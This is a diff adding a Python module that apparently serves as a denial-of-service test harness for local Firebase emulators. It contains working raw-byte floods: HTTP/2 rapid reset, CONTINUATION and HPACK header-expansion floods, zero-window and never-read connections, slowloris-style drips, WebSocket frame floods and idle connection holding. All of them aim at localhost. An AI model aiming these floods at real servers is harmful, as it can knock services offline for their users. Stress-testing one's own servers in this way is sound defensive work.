@@ -1,0 +1,349 @@
+"""The floods of floods.py: what each kind of client that misbehaves sends.
+
+A flood is a function that keeps one connection busy until a moment; it raises OSError once the server has ended the
+connection. Everything is sent as raw bytes, since no library of good manners does these things.
+"""
+
+import socket
+import time
+
+from google.cloud.firestore_v1.types import GetDocumentRequest
+
+DATABASE = "projects/demo-floods/databases/(default)"
+SERVICE = "/google.firestore.v1.Firestore/"
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+DATA, HEADERS, PRIORITY, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
+
+
+def frame(kind, flags, stream, payload=b""):
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def literal(name, value):
+    """A header that no table of HPACK remembers; lengths below 127."""
+    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
+
+
+def request_headers(method):
+    pairs = [(":method", "POST"), (":scheme", "http"), (":path", SERVICE + method), (":authority", "localhost"),
+             ("content-type", "application/grpc"), ("te", "trailers"), ("authorization", "Bearer owner")]
+    return b"".join(literal(name, value) for name, value in pairs)
+
+
+def get_message(document):
+    body = GetDocumentRequest.serialize(GetDocumentRequest(name=f"{DATABASE}/documents/floods/{document}"))
+    return b"\0" + len(body).to_bytes(4, "big") + body
+
+
+class Peer:
+    """A raw connection. Its end, or a GOAWAY, is raised by `drain`."""
+
+    def __init__(self, port, http2=True, settings=b"", reads=True, window=None):
+        self.socket = socket.socket()
+        self.reads = reads
+        self.frames = b"" if http2 else None
+        self.looked = time.monotonic()
+        if not reads:
+            self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        # A send that waits is held up by the server, not cut off by it.
+        self.socket.settimeout(60)
+        self.socket.connect(("127.0.0.1", port))
+        if http2:
+            # The server's own settings, with more streams than a hundred, hold once they are acknowledged.
+            self.send(PREFACE + frame(SETTINGS, 0, 0, settings) + frame(SETTINGS, 1, 0))
+            if window:
+                self.send(frame(WINDOW, 0, 0, window.to_bytes(4, "big")))
+
+    def close(self):
+        self.socket.close()
+
+    def send(self, data):
+        self.socket.sendall(data)
+
+    def send_some(self, data):
+        """Sends what the socket takes within a moment; returns the rest."""
+        self.socket.settimeout(0.2)
+        try:
+            return data[self.socket.send(data):]
+        except TimeoutError:
+            return data
+        finally:
+            self.socket.settimeout(60)
+
+    def drain(self):
+        """Takes what has come; raises once the connection is over."""
+        if not self.reads:
+            if time.monotonic() > self.looked + 1:
+                self.looked = time.monotonic()
+                if not self.is_held():
+                    raise ConnectionResetError("closed")
+            return
+        self.socket.setblocking(False)
+        try:
+            while True:
+                got = self.socket.recv(1 << 16)
+                if not got:
+                    raise ConnectionResetError("closed")
+                if self.frames is not None:
+                    self.look_for_goaway(got)
+        except BlockingIOError:
+            pass
+        finally:
+            self.socket.settimeout(60)
+
+
+    def is_held(self):
+        """Whether the server still holds its end. The peer of a connection that is not read hears nothing of its end."""
+        ours, theirs = (f":{name[1]:04X}" for name in (self.socket.getsockname(), self.socket.getpeername()))
+        with open("/proc/net/tcp") as connections:
+            fields = (line.split()[1:4] for line in connections)
+            return any(local.endswith(theirs) and remote.endswith(ours) and state in ("01", "08")
+                       for local, remote, state in fields)
+
+    def look_for_goaway(self, got):
+        self.frames += got
+        while len(self.frames) >= 9:
+            length = int.from_bytes(self.frames[:3], "big")
+            if len(self.frames) < 9 + length:
+                return
+            if self.frames[3] == GOAWAY:
+                code, text = self.frames[13 + 3], self.frames[17:9 + length].decode()
+                raise ConnectionResetError(f"GOAWAY {code}: {text}")
+            self.frames = self.frames[9 + length:]
+
+
+def repeated(make, per_batch=50, pause=0, **options):
+    """A flood over HTTP/2 of what `make` returns for each odd number of a stream."""
+    def flood(ports, until):
+        peer, stream = Peer(ports.firestore, **options), 1
+        try:
+            while time.monotonic() < until and stream < 1 << 31:
+                batch = b"".join(make(number) for number in range(stream, stream + 2 * per_batch, 2))
+                stream += 2 * per_batch
+                peer.send(batch)
+                peer.drain()
+                if pause:
+                    time.sleep(pause)
+        finally:
+            peer.close()
+    return flood
+
+
+def open_stream(method="GetDocument"):
+    return frame(HEADERS, 4, 1, request_headers(method))
+
+
+def on_stream(make, **options):
+    """A flood of one kind of frame on one open stream."""
+    return repeated(lambda stream: (open_stream() if stream == 1 else b"") + make, **options)
+
+
+def reset_pair(stream):
+    return (frame(HEADERS, 4, stream, HEADERS_OF_GET) + frame(RESET, 0, stream, (8).to_bytes(4, "big")))
+
+
+def asked_reset(stream):
+    """A whole request, and then its reset."""
+    return (frame(HEADERS, 4, stream, HEADERS_OF_GET) + frame(DATA, 1, stream, LARGE) +
+            frame(RESET, 0, stream, (8).to_bytes(4, "big")))
+
+
+def provoked(stream):
+    """A stream that the server must reset: a window opened by nothing."""
+    return frame(HEADERS, 4, stream, HEADERS_OF_GET) + frame(WINDOW, 0, stream, bytes(4))
+
+
+HEADERS_OF_GET = request_headers("GetDocument")
+
+
+def continuation(ports, until):
+    peer = Peer(ports.firestore)
+    try:
+        peer.send(frame(HEADERS, 0, 1, HEADERS_OF_GET))
+        while time.monotonic() < until:
+            peer.send(frame(CONTINUATION, 0, 1, literal("x-" + "a" * 20, "b" * 100) * 8))
+            peer.drain()
+    finally:
+        peer.close()
+
+
+def huge_headers(stream):
+    """A header block that unfolds: one entry of the table, named again and again."""
+    entry = b"\x40" + b"\x05x-big" + b"\x7f\x81\x1e" + b"v" * 4_000  # into the dynamic table, 62
+    return frame(HEADERS, 4, stream, HEADERS_OF_GET + entry + b"\xbe" * 12_000)
+
+
+def open_calls(most, message=None, reads=True, settings=b"", window=None):
+    """Opens calls, with or without their requests, and leaves them there."""
+    def flood(ports, until):
+        peer, stream, rest = Peer(ports.firestore, settings=settings, reads=reads, window=window), 1, b""
+        try:
+            while time.monotonic() < until:
+                if not rest and stream < 2 * most:
+                    for _ in range(20):
+                        rest += frame(HEADERS, 4, stream, HEADERS_OF_GET)
+                        if message:
+                            rest += frame(DATA, 1, stream, message)
+                        stream += 2
+                if rest:
+                    rest = peer.send_some(rest)
+                else:
+                    time.sleep(0.05)
+                peer.drain()
+        finally:
+            peer.close()
+    return flood
+
+
+def window_setting(size):
+    return (4).to_bytes(2, "big") + size.to_bytes(4, "big")
+
+
+def unread(of, request):
+    """Asks the port for large answers over HTTP/1.1, one after the other, and takes nothing."""
+    def flood(ports, until):
+        peer, rest = Peer(getattr(ports, of), http2=False, reads=False), request * 200
+        try:
+            while time.monotonic() < until:
+                if rest:
+                    rest = peer.send_some(rest)
+                else:
+                    time.sleep(0.2)
+                peer.drain()
+        finally:
+            peer.close()
+    return flood
+
+
+def drip(of, beginning, piece=b"a", pause=0.25, http2=False):
+    """Sends a beginning, and then a byte at a time."""
+    def flood(ports, until):
+        peer = Peer(getattr(ports, of), http2=http2)
+        try:
+            peer.send(beginning)
+            while time.monotonic() < until:
+                peer.send(piece)
+                time.sleep(pause)
+                peer.drain()
+        finally:
+            peer.close()
+    return flood
+
+
+def pour(of, beginning, piece):
+    """Sends a beginning, and then the same for ever, as fast as it is taken."""
+    def flood(ports, until):
+        peer, batch = Peer(getattr(ports, of), http2=False), piece * (16_384 // len(piece))
+        try:
+            peer.send(beginning)
+            while time.monotonic() < until:
+                peer.send(batch)
+                peer.drain()
+        finally:
+            peer.close()
+    return flood
+
+
+UPGRADE = (b"GET /.ws?v=5&ns=demo-floods HTTP/1.1\r\nHost: x\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
+           b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n")
+
+
+def masked(opcode, payload, fin=True):
+    """A WebSocket frame under a mask of zeros; below 126 bytes."""
+    return bytes([(0x80 if fin else 0) | opcode, 0x80 | len(payload)]) + bytes(4) + payload
+
+
+LISTEN = masked(1, b'{"t":"d","d":{"r":1,"a":"g","b":{"p":"/large","q":{}}}}')
+
+
+def unread_events(ports, until):
+    """Listens to a value that it changes itself over another connection, and never reads the events."""
+    reader, writer = Peer(ports.database, http2=False, reads=False), Peer(ports.database, http2=False)
+    body = b'"' + b"x" * 200_000 + b'"'
+    request = b"PUT /changing.json?ns=demo-floods&print=silent HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n"
+    try:
+        reader.send(b"GET /changing.json?ns=demo-floods HTTP/1.1\r\nHost: x\r\nAccept: text/event-stream\r\n\r\n")
+        while time.monotonic() < until:
+            writer.send(request % len(body) + body)
+            time.sleep(0.01)
+            writer.drain()
+            reader.drain()
+    finally:
+        reader.close()
+        writer.close()
+
+
+def idle(ports, until):
+    """Holds 100 connections that ask for nothing after their first request."""
+    peers = []
+    try:
+        for _ in range(100):
+            peer = Peer(ports.firestore, http2=False)
+            peer.send(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
+            peers.append(peer)
+        while time.monotonic() < until:
+            time.sleep(0.5)
+            for peer in peers:
+                peer.drain()
+    finally:
+        for peer in peers:
+            peer.close()
+
+
+def sink(ports, until):
+    """Sends to a process that throws everything away: what the attackers themselves take of the machine."""
+    peer, stream = Peer(ports.sink), 1
+    try:
+        while time.monotonic() < until:
+            batch = b"".join(reset_pair(number) for number in range(stream, stream + 100, 2))
+            stream += 100
+            peer.send(batch)
+            peer.drain()
+    finally:
+        peer.close()
+
+
+LARGE = get_message("large")
+REST_LARGE = f"GET /v1/{DATABASE}/documents/floods/large HTTP/1.1\r\nHost: x\r\n\r\n".encode()
+RTDB_LARGE = b"GET /large.json?ns=demo-floods HTTP/1.1\r\nHost: x\r\n\r\n"
+CHUNKED = b"PUT /text.json?ns=demo-floods HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n1\r\n\"\r\n"
+CHUNKED_COMMIT = (f"POST /v1/{DATABASE}/documents:commit HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
+                  "1\r\n{\r\n").encode()
+
+# Each with how many attack at once.
+FLOODS = {
+    "none: a sink beside the server": (sink, 8),
+    "rapid reset": (repeated(reset_pair), 8),
+    "rapid reset of whole requests": (repeated(asked_reset), 8),
+    "provoked resets": (repeated(provoked), 8),
+    "PING": (on_stream(frame(PING, 0, 0, bytes(8))), 8),
+    "SETTINGS": (on_stream(frame(SETTINGS, 0, 0)), 8),
+    "PRIORITY": (on_stream(frame(PRIORITY, 0, 1, b"\0\0\0\x03\1")), 8),
+    "WINDOW_UPDATE": (on_stream(frame(WINDOW, 0, 1, b"\0\0\0\1")), 8),
+    "frames of no known type": (on_stream(frame(0x42, 0, 0)), 8),
+    "empty DATA": (on_stream(frame(DATA, 0, 1)), 8),
+    "DATA of one byte": (on_stream(frame(DATA, 0, 1, b"\0")), 8),
+    "CONTINUATION": (continuation, 8),
+    "header lists that unfold": (repeated(huge_headers, per_batch=1), 8),
+    "calls without a request": (open_calls(900), 8),
+    "zero window": (open_calls(900, LARGE, settings=window_setting(0)), 8),
+    "gRPC, never reads": (open_calls(900, LARGE, reads=False, settings=window_setting(1 << 30), window=1 << 30), 32),
+    "REST, never reads": (unread("firestore", REST_LARGE), 32),
+    "Realtime REST, never reads": (unread("database", RTDB_LARGE), 32),
+    "WebSocket, never reads": (unread("database", UPGRADE + b"\r\n" + LISTEN * 50), 32),
+    "event stream, never reads": (unread_events, 4),
+    "silent within the preface of HTTP/2": (drip("firestore", b"PRI * HT", piece=b""), 200),
+    "slow head": (drip("firestore", b"GET / HTTP/1.1\r\nHost: x\r\nX-Slow: "), 200),
+    "slow upgrade": (drip("database", UPGRADE + b"X-Slow: "), 200),
+    "slow body": (drip("firestore", CHUNKED_COMMIT, piece=b"1\r\n \r\n"), 200),
+    "slow body, Realtime": (drip("database", CHUNKED, piece=b"1\r\nx\r\n"), 200),
+    "slow headers of HTTP/2": (
+        drip("firestore", frame(HEADERS, 0, 1, HEADERS_OF_GET) + b"\0\x03\xe8\x09\4\0\0\0\1", http2=True), 200),
+    "chunks of one byte": (pour("database", CHUNKED, b"1\r\nx\r\n"), 8),
+    "WebSocket pings": (pour("database", UPGRADE + b"\r\n", masked(9, b"")), 8),
+    "WebSocket, empty frames": (
+        pour("database", UPGRADE + b"\r\n" + masked(1, b"", fin=False), masked(0, b"", fin=False)), 8),
+    "WebSocket, frames of one byte": (
+        pour("database", UPGRADE + b"\r\n" + masked(1, b"x", fin=False), masked(0, b"x", fin=False)), 8),
+    "idle connections, 100 each": (idle, 180),
+}
